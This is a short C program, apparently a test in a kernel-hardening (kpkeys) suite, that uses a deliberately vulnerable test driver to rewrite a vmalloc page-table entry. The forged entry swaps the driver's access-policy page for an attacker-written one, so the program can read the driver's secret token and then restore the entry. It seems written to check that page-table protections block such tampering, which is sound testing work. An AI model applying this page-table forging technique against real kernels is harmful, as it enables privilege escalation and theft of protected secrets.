// SPDX-License-Identifier: GPL-2.0-only
/*
 * Rewrite a page-table entry of the kernel's vmalloc area so that the page by
 * which a driver decides who may read its secret is one the attacker wrote.
 */
#include <stddef.h>

#include "common.h"

int main(void)
{
	const struct kpkeys_vuln_info *info = vuln_info();
	struct kpkeys_vuln_policy *policy = map_pages(NULL, page_size());
	struct kpkeys_vuln_secret secret = { 0 };
	struct kpkeys_vuln_entry e;
	bool given;

	policy->reader_uid = ATTACKER_UID;
	e = vuln_entry(KPKEYS_VULN_KERNEL, (void *)(uintptr_t)info->policy,
		       KPKEYS_VULN_PTE);

	vuln_write(e.addr, (e.value & ~info->addr) | phys_of(policy) |
			   info->sync);
	vuln_flush();

	given = vuln_secret(&secret);

	vuln_write(e.addr, e.value | info->sync);
	vuln_flush();

	if (!given || !is_token(secret.text))
		die("the driver refused: the forged entry has no effect");
	report_loot(secret.text);
	return 0;
}
